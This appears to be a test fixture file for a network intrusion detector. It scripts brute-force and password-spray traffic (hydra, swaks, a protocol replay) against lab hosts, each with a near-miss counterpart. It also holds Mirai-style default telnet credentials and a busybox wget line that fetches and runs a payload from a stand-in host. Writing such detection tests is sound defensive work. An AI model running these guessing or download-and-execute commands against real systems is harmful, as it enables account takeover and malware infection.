"""Guessing of passwords, with and without success, and people who mistype theirs."""
import services
import webserver
from cases import case

LATER = "Later, with the detector `brute_force`: one alert"
WORDS = "123456 password 12345678 qwerty letmein1 monkey dragon sunshine master shadow football trustno1 welcome admin root toor iloveyou princess abc123 starwars".split()


def words(lab, *last):
    return lab.write("words.txt", "\n".join(WORDS + list(last)) + "\n")


@case("brute_ssh", ["openssh-server", "hydra"], [f"{LATER} for 198.51.100.10 against SSH of 10.20.0.80: 20 failed logins.", "No `port_scan`: one service is not a scan."])
def brute_ssh(lab):
    """hydra tries 20 passwords for one account over SSH, one at a time per connection; none is right."""
    lab.edge()
    services.sshd(lab)
    lab.capture()
    lab.run("sk-c", f"hydra -I -t 4 -l root -P {words(lab)} ssh://10.20.0.80", timeout=120)


@case("brute_ftp", ["vsftpd", "hydra"], [f"{LATER} for 198.51.100.10 against FTP of 10.20.0.80: 20 failed logins (530).", "No `port_scan`."])
def brute_ftp(lab):
    """hydra tries 20 passwords for one account over FTP; none is right."""
    lab.edge()
    services.vsftpd(lab)
    lab.capture()
    lab.run("sk-c", f"hydra -I -t 4 -l alice -P {words(lab)} ftp://10.20.0.80", timeout=120)


@case("brute_http", webserver.PACKAGES + ["hydra"], [f"{LATER} for 198.51.100.10 against HTTP of 10.20.0.80: 40 failed logins (20 answered 401 by Basic, 20 told so by the login form with status 200).", "No `port_scan`, no `syn_flood`."])
def brute_http(lab):
    """hydra tries 20 passwords against HTTP Basic and 20 against a login form; none is right."""
    lab.edge()
    webserver.start(lab)
    lab.capture()
    lab.run("sk-c", f"hydra -I -t 4 -l operator -P {words(lab)} -m /admin/ http-get://10.20.0.80", timeout=60)
    lab.run("sk-c", f"hydra -I -t 4 -l alice -P {words(lab)} 10.20.0.80 http-post-form '/signin.php:user=^USER^&pass=^PASS^:Login failed'", timeout=60)


@case("brute_success", ["vsftpd", "hydra", "curl"], [f"{LATER}, RED: 20 failed logins over FTP, then a login that succeeds from the same address, and files are taken.", "No `port_scan`."])
def brute_success(lab):
    """hydra guesses the FTP password of an account at the 21st try; then the intruder logs in and takes the files."""
    lab.edge()
    services.vsftpd(lab)
    lab.capture()
    lab.run("sk-c", f"hydra -I -t 2 -l bob -P {words(lab, 'letmein')} ftp://10.20.0.80", timeout=120)
    lab.run("sk-c", "sleep 1; curl -s -m 5 -u bob:letmein ftp://10.20.0.80/; curl -s -m 5 -u bob:letmein -o /dev/null ftp://10.20.0.80/orders.csv")


@case("brute_spray", ["python3-aiosmtpd", "swaks", "dnsmasq"], [f"{LATER} for 198.51.100.10: one password tried for 15 accounts over SMTP AUTH (535 each).", "No `port_scan`."])
def brute_spray(lab):
    """A password spray over SMTP AUTH: one likely password for 15 accounts."""
    lab.edge()
    services.names(lab)
    services.maild(lab)
    lab.capture()
    lab.run("sk-c", "for u in anna bert carl dora emil fred gina hugo ines jan kira leo mia nina otto; do swaks --server 10.20.0.25 --helo client.example --from bob@client.example --to alice@shop.example --quit-after AUTH --auth LOGIN --auth-user $u --auth-password Summer-2026; done", timeout=60)


@case("brute_nearmiss", ["openssh-server", "sshpass", "vsftpd", "curl"] + webserver.PACKAGES, ["Nothing: three people mistype a password once or twice and then log in; a page answers 401 once before the browser sends the password, as HTTP Basic always does."])
def brute_nearmiss(lab):
    """The near miss of the brute force cases: people at three addresses who mistype a password once or twice over SSH, FTP and HTTP, then log in; and a browser that gets 401 before it sends the password."""
    lab.edge()
    lab.address("sk-c", "eth0", "198.51.100.21/24", "198.51.100.22/24", "198.51.100.23/24")
    services.sshd(lab)
    services.vsftpd(lab)
    webserver.start(lab)
    lab.capture()
    for word in ("Sprnig-2026", "Spring-2025", "Spring-2026"):
        lab.run("sk-c", f"sshpass -p {word} ssh {services.SSH} -b 198.51.100.21 -o PubkeyAuthentication=no -o NumberOfPasswordPrompts=1 alice@10.20.0.80 id; sleep 1")
    for word in ("spring-2026", "Spring-2026"):
        lab.run("sk-c", f"curl -s -m 5 --interface 198.51.100.22 -u alice:{word} ftp://10.20.0.80/; sleep 1")
    for word in ("Sprnig-2026", "Spring-2026"):
        lab.run("sk-c", f"curl -s -m 5 --interface 198.51.100.23 -o /dev/null -d user=alice -d pass={word} http://www.shop.example/login.php; sleep 1")
    lab.run("sk-c", "for i in 1 2 3; do curl -s -m 5 --interface 198.51.100.23 -o /dev/null --anyauth -u operator:Green-Kettle-7 http://www.shop.example/admin/; done")


@case("ssh_keys_nearmiss", ["openssh-server", "openssh-client"], ["Nothing: a build server fetches over SSH twenty times in a row, each time with an agent whose first two keys are refused.", "Before, that a key would do was taken for a refusal, and this was RED."])
def ssh_keys_nearmiss(lab):
    """A build server that fetches over SSH again and again. Its agent offers two keys that the server does not know before the one that it does."""
    lab.edge()
    services.sshd(lab)
    keys = " ".join(f"-i {lab.tmp}/{name}" for name in ("wrong1", "wrong2", "user"))
    lab.quiet("sk-c", f"for k in wrong1 wrong2 user; do ssh-keygen -q -t ed25519 -N '' -C key -f {lab.tmp}/$k; done; cp {lab.tmp}/user.pub {lab.tmp}/authorized; chmod 644 {lab.tmp}/authorized")
    lab.capture()
    lab.run("sk-c", f"for i in $(seq 20); do ssh {services.SSH} -o BatchMode=yes -o IdentitiesOnly=yes {keys} alice@10.20.0.80 true; done", timeout=60)


# A script of both ends: who speaks, and what. The bytes are those of the protocols; there is no server behind them.
ACCOUNTS = """import random, socket, struct, sys, threading, time
R = random.Random(5)
rb = R.randbytes
def der(tag, body):
    n = len(body)
    return bytes([tag]) + (bytes([n]) if n < 128 else struct.pack("!BB", 0x81, n) if n < 256 else struct.pack("!BH", 0x82, n)) + body
num = lambda v: der(2, bytes([v]))
text = lambda t: der(0x1b, t.encode())
REALM = "SHOP.EXAMPLE"
KRBTGT = der(0x30, der(0xa0, num(2)) + der(0xa1, der(0x30, text("krbtgt") + text(REALM))))
def kerberos(k):
    user = der(0x30, der(0xa0, num(1)) + der(0xa1, der(0x30, text(f"user{k}"))))
    body = der(0x30, der(0xa0, der(3, b"\\0\\x50\\x80\\0\\x10")) + der(0xa1, user) + der(0xa2, text(REALM)) + der(0xa3, KRBTGT) + der(0xa5, der(0x18, b"20370913024805Z")) + der(0xa7, num(77)) + der(0xa8, der(0x30, num(18) + num(23))))
    stamp = der(0xa3, der(0x30, der(0x30, der(0xa1, num(2)) + der(0xa2, der(4, der(0x30, der(0xa0, num(18)) + der(0xa2, der(4, rb(56)))))))))
    asks = der(0x6a, der(0x30, der(0xa1, num(5)) + der(0xa2, num(10)) + stamp + der(0xa4, body)))
    error = der(0x7e, der(0x30, der(0xa0, num(5)) + der(0xa1, num(30)) + der(0xa4, der(0x18, b"20261122120000Z")) + der(0xa5, num(5)) + der(0xa6, num(24)) + der(0xa9, text(REALM)) + der(0xaa, KRBTGT)))
    long = lambda b: struct.pack("!I", len(b)) + b
    return [long(asks)], [long(error)]
def ldap(k):
    bind = der(0x30, num(1) + der(0x60, num(3) + der(4, b"cn=admin,dc=shop,dc=example") + der(0x80, b"pass%d" % k)))
    return [bind], [der(0x30, num(1) + der(0x61, der(0x0a, bytes([49])) + der(4, b"") + der(4, b"")))]
def vnc(k):
    no = b"Authentication failed!"
    return [b"RFB 003.008\\n", b"\\2", rb(16)], [b"RFB 003.008\\n", b"\\1\\2", rb(16), b"\\0\\0\\0\\1" + struct.pack("!I", len(no)) + no]
def smb(k):
    def message(command, number, session, status, body, answer):
        head = b"\\xfeSMB" + struct.pack("<HHIHHIIQIIQ16s", 64, 1, status, command, 1, int(answer), 0, number, 0xfeff, 0, session, b"")
        return struct.pack("!I", len(head) + len(body)) + head + body
    setup = lambda token: struct.pack("<HBBIIHHQ", 25, 0, 1, 0, 0, 88, len(token), 0) + token
    reply = lambda token: struct.pack("<HHHH", 9, 0, 72, len(token)) + token
    ntlm, session = b"NTLMSSP\\0", 0x400000000001 + k
    fields, data = [], b""
    for x in (b"\\0" * 24, rb(200), "SHOP".encode("utf-16le"), f"user{k % 3}".encode("utf-16le"), "WS1".encode("utf-16le"), b""):
        fields.append(struct.pack("<HHI", len(x), len(x), 88 + len(data)))
        data += x
    third = ntlm + struct.pack("<I", 3) + b"".join(fields) + struct.pack("<I", 0xe2888215) + b"\\0" * 24 + data
    second = ntlm + struct.pack("<IHHIIQQHHI", 2, 8, 8, 56, 0xe2898215, 7, 0, 0, 0, 64) + b"\\n\\0cE\\0\\0\\0\\x0f" + "SHOP".encode("utf-16le")
    return [message(0, 0, 0, 0, struct.pack("<HHHHI16sQHH", 36, 2, 1, 0, 0, rb(16), 0, 0x202, 0x210), False),
            message(1, 1, 0, 0, setup(ntlm + struct.pack("<I", 1) + b"\\x97\\x82\\x08\\xe2" + b"\\0" * 24), False),
            message(1, 2, session, 0, setup(third), False)], [
            message(0, 0, 0, 0, struct.pack("<HHHH16sIIIIQQHHI", 65, 1, 0x210, 0, rb(16), 7, 1 << 20, 1 << 20, 1 << 20, 0, 0, 128, 0, 0), True),
            message(1, 1, session, 0xc0000016, reply(second), True), message(1, 2, session, 0xc000006d, reply(b""), True)]
SERVICES = {88: kerberos, 389: ldap, 445: smb, 5900: vnc}
def read(s, n):
    while n > 0:
        got = s.recv(n)
        if not got:
            return
        n -= len(got)
def play(s, port, k, client):
    asks, answers = SERVICES[port](k)
    turns = [(who, m) for pair in zip(*([("s", a) for a in answers], [("c", a) for a in asks])) for who, m in pair] if port == 5900 else [(who, m) for pair in zip([("c", a) for a in asks], [("s", a) for a in answers]) for who, m in pair]
    if port == 5900:
        turns.append(("s", answers[-1]))
    for who, m in turns:
        if (who == "c") == client:
            s.sendall(m)
        else:
            read(s, len(m))
    s.close()
if sys.argv[1] == "serve":
    def serve(port):
        listener = socket.create_server(("10.20.0.80", port))
        for k in range(1000):
            play(listener.accept()[0], port, k, False)
    for port in SERVICES:
        threading.Thread(target=serve, args=(port,)).start()
else:
    first = int(sys.argv[2])
    for n, port in enumerate(SERVICES):
        for k in range(first):
            play(socket.create_connection(("10.20.0.80", port), source_address=(f"198.51.100.{31 + n}", 0)), port, k, True)
            time.sleep(0.15)
"""


def accounts(lab, tries):
    lab.edge()
    lab.address("sk-c", "eth0", *[f"198.51.100.{n}/24" for n in range(31, 35)])
    script = lab.write("accounts.py", ACCOUNTS.replace("\\\\", "\\"))
    lab.spawn("sk-s", f"/usr/bin/python3 {script} serve", wait_port=5900)
    lab.capture()
    lab.run("sk-c", f"/usr/bin/python3 {script} ask {tries}", timeout=60)


@case("brute_accounts", ["python3"], [f"{LATER} for each of 198.51.100.31 to .34 against Kerberos, LDAP, SMB and VNC of 10.20.0.80: 14 failed logins each.", "Kerberos: one password for 14 accounts is `password_spray` too.", "No `port_scan`."])
def brute_accounts(lab):
    """Guessing over Kerberos (pre-authentication failed), LDAP (bind 49), SMB2 (STATUS_LOGON_FAILURE) and VNC, by a host each; a script speaks both ends."""
    accounts(lab, 14)


@case("accounts_nearmiss", ["python3"], ["Nothing of `brute_force` or `password_spray`: three mistakes each are mistakes."])
def accounts_nearmiss(lab):
    """The near miss of `brute_accounts`: three failed logins of each host."""
    accounts(lab, 3)


@case("brute_telnet", ["inetutils-telnetd", "socat", "ncat"], [f"{LATER} for 198.51.100.10 against telnet of 10.20.0.80: ten factory-set pairs, as Mirai and its kin try them; the last one succeeds, and the commands such a bot gives follow.", "Signatures for factory-set pairs and for the bot's busybox commands may fire.", "No `port_scan`."])
def brute_telnet(lab):
    """A bot guesses factory-set passwords over telnet; the tenth pair works, and it gives the commands such bots give. The commands do nothing here (a shell that only echoes)."""
    lab.edge()
    login = lab.write("login.sh", "#!/bin/sh\nprintf 'till login: '; read u; printf 'Password: '; stty -echo; read p; stty echo; echo\n"
                      "[ \"$u$p\" = rootvizxv ] || { echo 'Login incorrect'; exit; }\nwhile printf '# ' && read line; do case \"$line\" in *ECCHI*) echo 'ECCHI: applet not found';; exit) exit;; esac; done\n", 0o755)
    lab.spawn("sk-s", f"socat TCP4-LISTEN:23,bind=10.20.0.80,reuseaddr,fork EXEC:'{lab.write('telnetd.sh', f'#!/bin/sh{chr(10)}exec /usr/sbin/telnetd -h -E {login}{chr(10)}', 0o755)}',nofork", wait_port=23)
    pairs = "root:xc3511 root:admin admin:admin root:888888 root:xmhdipc root:default root:juantech root:123456 support:support root:vizxv"
    lab.capture()
    lab.run("sk-c", "for p in " + pairs + "; do (sleep 0.3; printf '%s\\r\\n' ${p%%:*}; sleep 0.3; printf '%s\\r\\n' ${p##*:}; sleep 0.4; "
            "[ $p = root:vizxv ] && { for c in enable system shell sh '/bin/busybox ECCHI' '/bin/busybox wget http://198.51.100.10/mips -O - > dvrHelper; chmod 777 dvrHelper; ./dvrHelper telnet.mips' exit; do printf '%s\\r\\n' \"$c\"; sleep 0.3; done; }; true) | ncat -t 10.20.0.80 23; done", timeout=60)
